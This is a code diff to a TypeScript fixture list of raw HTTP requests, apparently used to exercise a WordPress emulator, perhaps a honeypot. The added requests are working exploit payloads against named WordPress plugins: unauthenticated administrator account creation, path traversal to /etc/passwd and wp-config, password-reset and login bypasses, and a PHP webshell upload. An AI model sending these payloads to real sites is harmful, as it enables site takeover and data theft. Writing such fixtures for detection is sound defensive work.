@@ -1,3 +1,4 @@
+import { VULNERABLE_PLUGINS } from '../../../src/emulators/wordpress/plugin-list.ts'
 import { httpRequest } from '../http-request.ts'
 
 const form = (target: string, body: string): Buffer =>
@@ -43,4 +44,37 @@ export default [
   upload('/wp-admin/update.php?action=upload-plugin', 'pluginzip'),
   httpRequest('GET', '/wp-content/plugins/wp-file-manager/lib/files/s.php?c=id'),
   httpRequest('GET', '/wp-admin/admin-ajax.php?action=revslider_show_image&img=../../../etc/passwd'),
+  httpRequest(
+    'POST',
+    '/wp-json/sure-triggers/v1/automation/action',
+    '{"type_event":"create_user_if_not_exists","selected_options":{"user_name":"m","user_email":"m@x.example","password":"p","role":"administrator"}}',
+    { 'Content-Type': 'application/json', 'St-Authorization': '' },
+  ),
+  form('/wp-json/sure-triggers/v1/connection/create-wp-connection', 'sure-triggers-access-key=k&wp-username=admin'),
+  Buffer.concat([
+    httpRequest('GET', '/api/modular-connector/login/a/?origin=mo&type=x'),
+    httpRequest('GET', '/?switch_back=1', '', { Cookie: 'original_user_id=1' }),
+    httpRequest('GET', '/?page=postman_email_log&view=log&log_id=7'),
+    httpRequest('GET', '/?__kubio-site-edit-iframe-preview=1&__kubio-site-edit-iframe-classic-template=../../../etc/passwd'),
+    httpRequest('GET', '/wp-login.php?action=rp&key=aaaaaaaaaaaaaaaaaaaa&login=admin'),
+  ]),
+  form('/', 'social_site=true&user_id_social_site=1'),
+  form('/wp-login.php?action=resetpass', 'pass1=x'),
+  ...[
+    'action=king_addons_user_register&username=m&password=p&user_role=administrator',
+    'action=sneeit_articles_pagination&callback=var_dump&args=%5B%7B%22a%22%3A%5B1%2Cnull%5D%7D%5D',
+    'action=sneeit_articles_pagination&callback=wp_insert_user&args=%7B%22user_login%22%3A%22m%22%2C%22user_pass%22%3A%22p%22%7D',
+    'action=woof_text_search&template=../../../../wp-config&value=a&min_symbols=1',
+    'action=nf_fu_get_new_nonce&field_id=5',
+  ].map((body) => form('/wp-admin/admin-ajax.php', body)),
+  ...['wpb_ajax_post', 'nf_fu_upload'].map((action) =>
+    httpRequest(
+      'POST',
+      '/wp-admin/admin-ajax.php',
+      `--b\r\nContent-Disposition: form-data; name="action"\r\n\r\n${action}\r\n--b\r\nContent-Disposition: form-data; name="route_name"\r\n\r\nadd_booking_type\r\n--b\r\nContent-Disposition: form-data; name="image_jpg"\r\n\r\n../../../../z.php\r\n--b\r\nContent-Disposition: form-data; name="f"; filename="image.jpg"\r\n\r\n<?php echo 1; ?>\r\n--b--\r\n`,
+      { 'Content-Type': 'multipart/form-data; boundary=b' },
+    ),
+  ),
 ]
+
+export const options = { vulnerable: [...VULNERABLE_PLUGINS] }
